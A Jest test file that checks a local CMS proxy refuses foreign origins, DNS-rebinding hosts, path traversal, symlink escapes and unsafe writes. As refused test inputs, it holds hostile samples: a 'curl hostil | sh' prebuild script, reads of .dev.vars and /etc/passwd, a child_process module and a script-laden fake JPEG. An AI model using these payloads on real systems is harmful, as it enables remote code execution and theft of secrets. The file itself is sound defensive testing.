/** @jest-environment node */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
import { createServer, request, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { startCmsProxy, type CmsProxy } from '@/scripts/operator/cms-proxy';

// The local proxy of `npm run cms` (scripts/operator/cms-proxy.ts) over a project folder of the test's own,
// asked as the CMS page asks (its origin, the proxy's host, the address its config names) and as a
// hostile page or a rebound domain would: only the CMS page is answered, and only about
// content/company/ and public/photos/. Every refused write leaves the folder as it was.

/** The CMS page's origin, as `npm run cms` serves it (nothing listens there: the proxy only compares it). */
const SITE = 'http://127.0.0.1:4170';
const SALT = 'LEAD_SALT=sal-da-casa-0123456789';
/** The start of a JPEG file (its SOI and JFIF markers): what the proxy checks a .jpg by. */
const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
const PACKAGE = `${JSON.stringify({ name: 'site', scripts: { prebuild: 'node check.js' } }, null, 2)}\n`;

type Reply = { status: number; headers: IncomingHttpHeaders; body: string };

function send(
  port: number,
  { path, method = 'POST', headers = {}, body }: { path: string; method?: string; headers?: Record<string, string>; body?: unknown },
): Promise<Reply> {
  return new Promise((done, fail) => {
    const req = request({ host: '127.0.0.1', port, path, method, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString() }));
    });
    req.on('error', fail);
    req.end(body === undefined ? undefined : JSON.stringify(body));
  });
}

/** A port nobody listens on now. */
function freePort(): Promise<number> {
  return new Promise((done) => {
    const server = createServer().listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      server.close(() => done(port));
    });
  });
}

/** Every file under `dir` (symbolic links as their target's name) with its bytes: what a refused request must leave alone. */
function snapshot(dir: string, base = dir): Record<string, string> {
  const files: Record<string, string> = {};
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    const name = path.slice(base.length + 1);
    if (entry.isSymbolicLink()) files[name] = `-> link`;
    else if (entry.isDirectory()) Object.assign(files, snapshot(path, base));
    else files[name] = `${statSync(path).mtimeMs} ${readFileSync(path, 'base64')}`;
  }
  return files;
}

describe('the local CMS proxy', () => {
  let parent = '';
  let root = '';
  let proxy: CmsProxy;
  let port = 0;
  let path = '';

  /** A request as the CMS page makes it: its origin, the proxy's own host, the address its config names. */
  const fromCms = (body: unknown, headers: Record<string, string> = {}) =>
    send(port, { path, headers: { Host: `127.0.0.1:${port}`, Origin: SITE, 'Content-Type': 'application/json; charset=utf-8', ...headers }, body });
  const action = (name: string, params: Record<string, unknown>) => ({ action: name, params: { branch: 'main', ...params } });

  beforeAll(async () => {
    parent = mkdtempSync(join(tmpdir(), 'cms-proxy-'));
    root = join(parent, 'site');
    const files: Record<string, string> = {
      'package.json': PACKAGE,
      '.dev.vars': SALT,
      '.wrangler/state/v3/d1/leads.sqlite': 'the local leads',
      'content/company/company.json': '{ "url": "https://www.exemplo.com.br" }\n',
      'content/company/projects/sitio.json': '{ "title": "Sítio" }\n',
      'content/companyX/a.json': '{ "title": "fora" }\n',
      'public/photos/telhado.jpg': 'jpeg bytes',
      'public/icon.svg': '<svg/>',
    };
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(dirname(join(root, name)), { recursive: true });
      writeFileSync(join(root, name), text);
    }
    writeFileSync(join(parent, 'outside.txt'), 'beside the project');
    // The project's packages, as in a real copy (decap-server is one of them).
    symlinkSync(join(__dirname, '..', '..', '..', 'node_modules'), join(root, 'node_modules'));
    // Links the CMS never makes, but a commit could carry: out of the two folders, yet inside the project.
    mkdirSync(join(root, 'content/company/links'));
    symlinkSync('../../../.dev.vars', join(root, 'content/company/links/leak.json'));
    mkdirSync(join(root, 'public/photos/links'));
    symlinkSync('../../../.wrangler', join(root, 'public/photos/links/escape'));
    port = await freePort();
    proxy = await startCmsProxy({ root, port, origins: [SITE] });
    path = new URL(proxy.url).pathname;
  });

  afterAll(async () => {
    await proxy?.close();
    rmSync(parent, { recursive: true, force: true });
  });

  describe('the CMS page', () => {
    it('reads and writes content/company/ and public/photos/ through the address its config names', async () => {
      expect(new URL(proxy.url).origin).toBe(`http://127.0.0.1:${port}`);
      const info = await fromCms({ action: 'info' });
      expect(info.status).toBe(200);
      expect(info.headers['access-control-allow-origin']).toBe(SITE);
      expect(JSON.parse(info.body)).toMatchObject({ type: 'local_fs', publish_modes: ['simple'] });

      const entry = await fromCms(action('getEntry', { path: 'content/company/company.json' }));
      expect(JSON.parse(entry.body)).toMatchObject({ data: '{ "url": "https://www.exemplo.com.br" }\n', file: { path: 'content/company/company.json' } });
      const folder = await fromCms(action('entriesByFolder', { folder: 'content/company/projects', extension: 'json', depth: 1 }));
      expect(JSON.parse(folder.body)).toEqual([expect.objectContaining({ data: '{ "title": "Sítio" }\n' })]);
      const media = await fromCms(action('getMedia', { mediaFolder: 'public/photos' }));
      expect(JSON.parse(media.body)).toEqual([expect.objectContaining({ path: 'public/photos/telhado.jpg' })]);

      const saved = await fromCms(
        action('persistEntry', {
          dataFiles: [{ slug: 'casa', path: 'content/company/projects/casa.json', raw: '{ "title": "Casa" }\n' }],
          assets: [{ path: 'public/photos/casa.jpg', content: JPEG.toString('base64'), encoding: 'base64' }],
          options: {
            newEntry: true,
            commitMessage: 'Create Projetos “casa”',
            collectionName: 'projects',
            useWorkflow: false,
            hasSubfolders: true,
            unpublished: false,
            status: 'draft',
          },
        }),
      );
      expect(saved.status).toBe(200);
      expect(readFileSync(join(root, 'content/company/projects/casa.json'), 'utf8')).toBe('{ "title": "Casa" }\n');
      expect(readFileSync(join(root, 'public/photos/casa.jpg'))).toEqual(JPEG);
      const deleted = await fromCms(
        action('deleteFiles', { paths: ['content/company/projects/casa.json', 'public/photos/casa.jpg'], options: { commitMessage: 'Delete' } }),
      );
      expect(deleted.status).toBe(200);
      expect(existsSync(join(root, 'content/company/projects/casa.json'))).toBe(false);
    });

    it('answers the preflight of the CMS page’s origin', async () => {
      const preflight = await send(port, {
        path,
        method: 'OPTIONS',
        headers: { Host: `127.0.0.1:${port}`, Origin: SITE, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'content-type' },
      });
      expect(preflight.status).toBeLessThan(300);
      expect(preflight.headers['access-control-allow-origin']).toBe(SITE);
      expect(String(preflight.headers['access-control-allow-headers']).toLowerCase()).toContain('content-type');
    });
  });

  describe('anyone else', () => {
    const dotDevVars = () => action('getEntry', { path: '.dev.vars' });

    it.each([
      ['a page on another local port', 'http://127.0.0.1:4171'],
      ['localhost on another port', 'http://localhost:9999'],
      ['a website', 'https://exemplo-hostil.com'],
      ['a sandboxed frame or a file', 'null'],
    ])('%s (Origin %s) gets nothing, not even a preflight', async (_, origin) => {
      const preflight = await send(port, {
        path,
        method: 'OPTIONS',
        headers: { Host: `127.0.0.1:${port}`, Origin: origin, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'content-type' },
      });
      expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
      expect(preflight.status).toBeGreaterThanOrEqual(400);
      const read = await fromCms(action('getEntry', { path: 'content/company/company.json' }), { Origin: origin });
      expect(read.status).toBe(403);
      expect(read.headers['access-control-allow-origin']).toBeUndefined();
      expect(read.body).not.toContain('exemplo.com.br');
    });

    it('a request without an Origin (not a browser page) gets nothing', async () => {
      const read = await send(port, {
        path,
        headers: { Host: `127.0.0.1:${port}`, 'Content-Type': 'application/json' },
        body: action('getEntry', { path: 'content/company/company.json' }),
      });
      expect(read.status).toBe(403);
      expect(read.body).not.toContain('exemplo.com.br');
    });

    it.each(['rebind.exemplo-hostil.com:PORT', 'rebind.exemplo-hostil.com', 'localhost:PORT', '127.0.0.1', '127.0.0.1:1', '192.0.2.2:PORT'])(
      'a foreign Host (%s: DNS rebinding, another name or port) gets nothing',
      async (host) => {
        const read = await fromCms(action('getEntry', { path: 'content/company/company.json' }), { Host: host.replace('PORT', String(port)) });
        expect(read.status).toBe(403);
        expect(read.headers['access-control-allow-origin']).toBeUndefined();
        expect(read.body).not.toContain('exemplo.com.br');
      },
    );

    it('the address without its per-run secret gets nothing; each start has a new one', async () => {
      const segments = path.split('/').filter(Boolean);
      expect(segments).toHaveLength(3);
      const secret = segments[0]!;
      expect(secret).toMatch(/^[\w-]{32,}$/);
      // One character off: the last one changed (to 'x', or to 'y' when the secret already ends in 'x').
      const offByOne = `${secret.slice(0, -1)}${secret.endsWith('x') ? 'y' : 'x'}`;
      const guesses = ['/api/v1', `/${offByOne}/api/v1`, `/${secret}/api/v1/`, `/${secret}/api/v1?x=1`, `/api/v1/${secret}`, `/${secret}`];
      for (const guess of guesses) {
        const read = await send(port, {
          path: guess,
          headers: { Host: `127.0.0.1:${port}`, Origin: SITE, 'Content-Type': 'application/json' },
          body: dotDevVars(),
        });
        expect([guess, read.status]).toEqual([guess, 404]);
        expect(read.body).not.toContain('sal-da-casa');
      }
      const otherPort = await freePort();
      const other = await startCmsProxy({ root, port: otherPort, origins: [SITE] });
      try {
        expect(new URL(other.url).pathname).not.toBe(path);
      } finally {
        await other.close();
      }
    });
  });

  describe('paths outside content/company/ and public/photos/', () => {
    const outside = [
      '.dev.vars',
      'package.json',
      '../outside.txt',
      'content/company/../../package.json',
      'public/photos/../../.dev.vars',
      'content/companyX/a.json',
      '.wrangler/state/v3/d1/leads.sqlite',
      'public/icon.svg',
      'content',
      '/etc/passwd',
      'C:\\Windows\\win.ini',
      'content\\company\\..\\..\\.dev.vars',
      'content/company/./../../.dev.vars',
      'content/company/links/leak.json',
      'public/photos/links/escape/state/v3/d1/leads.sqlite',
    ];

    it.each(outside)('reading %s is refused', async (file) => {
      const paths = [file, file.startsWith('/') ? file : join(root, file)];
      for (const target of paths) {
        for (const body of [
          action('getEntry', { path: target }),
          action('entriesByFiles', { files: [{ path: 'content/company/company.json' }, { path: target }] }),
          action('getMediaFile', { path: target }),
        ]) {
          const read = await fromCms(body);
          expect([body.action, target, read.status]).toEqual([body.action, target, 403]);
          // A refusal carries its message and nothing read.
          expect(Object.keys(JSON.parse(read.body))).toEqual(['error']);
          expect(JSON.parse(read.body).error).toMatch(/content\/company\/ e public\/photos\//);
        }
      }
    });

    it.each(['.', '', 'content', '.wrangler', 'public', 'content/company/..', 'content/company/links', 'public/photos/links/escape', '/'])(
      'listing the folder %j is refused',
      async (folder) => {
        for (const body of [action('entriesByFolder', { folder, extension: 'json', depth: 5 }), action('getMedia', { mediaFolder: folder })]) {
          const read = await fromCms(body);
          expect([body.action, folder, read.status]).toEqual([body.action, folder, 403]);
          expect(Object.keys(JSON.parse(read.body))).toEqual(['error']);
        }
      },
    );

    it.each([
      [
        "package.json's prebuild",
        action('persistEntry', {
          entry: { slug: 'x', path: 'package.json', raw: '{"scripts":{"prebuild":"curl hostil | sh"}}' },
          assets: [],
          options: { commitMessage: 'x', useWorkflow: false, status: 'draft' },
        }),
      ],
      [
        'an asset beside a good entry',
        action('persistEntry', {
          entry: { slug: 'ok', path: 'content/company/projects/ok.json', raw: '{}' },
          assets: [{ path: '.dev.vars', content: Buffer.from('LEAD_SALT=outro').toString('base64'), encoding: 'base64' }],
          options: { commitMessage: 'x', useWorkflow: false, status: 'draft' },
        }),
      ],
      [
        'a data file through ..',
        action('persistEntry', {
          dataFiles: [{ slug: 'x', path: 'content/company/../../package.json', raw: '{}' }],
          assets: [],
          options: { commitMessage: 'x', useWorkflow: false, status: 'draft' },
        }),
      ],
      [
        'a move out of the folder',
        action('persistEntry', {
          entry: { slug: 'sitio', path: 'content/company/projects/sitio.json', newPath: 'functions/api/leads.ts', raw: '{}' },
          assets: [],
          options: { commitMessage: 'x', useWorkflow: false, status: 'draft' },
        }),
      ],
      [
        'a photo into a linked folder',
        action('persistMedia', { asset: { path: 'public/photos/links/escape/x.jpg', content: 'eA==', encoding: 'base64' }, options: { commitMessage: 'x' } }),
      ],
      [
        'a photo to an absolute path',
        action('persistMedia', { asset: { path: '/tmp/x.jpg', content: 'eA==', encoding: 'base64' }, options: { commitMessage: 'x' } }),
      ],
      ['.dev.vars deleted', action('deleteFile', { path: '.dev.vars', options: { commitMessage: 'x' } })],
      [
        'a good photo and package.json deleted',
        action('deleteFiles', { paths: ['public/photos/telhado.jpg', 'package.json'], options: { commitMessage: 'x' } }),
      ],
      ['the local leads deleted', action('deleteFiles', { paths: ['.wrangler/state/v3/d1/leads.sqlite'], options: { commitMessage: 'x' } })],
      [
        'a formatter’s settings with a plugin (content/company/.prettierrc.json)',
        action('persistEntry', {
          entry: { slug: 'x', path: 'content/company/.prettierrc.json', raw: '{ "plugins": ["../../public/photos/evil.mjs"] }' },
          assets: [],
          options: { commitMessage: 'x', useWorkflow: false, status: 'draft' },
        }),
      ],
      [
        'a module among the photos (public/photos/evil.mjs)',
        action('persistMedia', {
          asset: {
            path: 'public/photos/evil.mjs',
            content: Buffer.from('import("node:child_process").then((c) => c.execSync("id"));').toString('base64'),
            encoding: 'base64',
          },
          options: { commitMessage: 'x' },
        }),
      ],
      [
        'a page named as a photo (public/photos/casa.jpg)',
        action('persistMedia', {
          asset: { path: 'public/photos/casa.jpg', content: Buffer.from('<!doctype html><script>alert(1)</script>').toString('base64'), encoding: 'base64' },
          options: { commitMessage: 'x' },
        }),
      ],
    ])('writing %s is refused, and nothing changes on disk', async (_, body) => {
      const before = snapshot(parent);
      const write = await fromCms(body);
      expect(write.status).toBe(403);
      expect(snapshot(parent)).toEqual(before);
      expect(readFileSync(join(root, 'package.json'), 'utf8')).toBe(PACKAGE);
      expect(readFileSync(join(root, '.dev.vars'), 'utf8')).toBe(SALT);
    });

    it.each(['unpublishedEntries', 'publishUnpublishedEntry', 'deleteUnpublishedEntry', 'runCommand', ''])('the action %j is refused', async (name) => {
      const before = snapshot(parent);
      const reply = await fromCms(action(name, { collection: 'projects', slug: 'sitio', path: 'content/company/projects/sitio.json' }));
      expect(reply.status).toBe(403);
      expect(snapshot(parent)).toEqual(before);
    });
  });
});
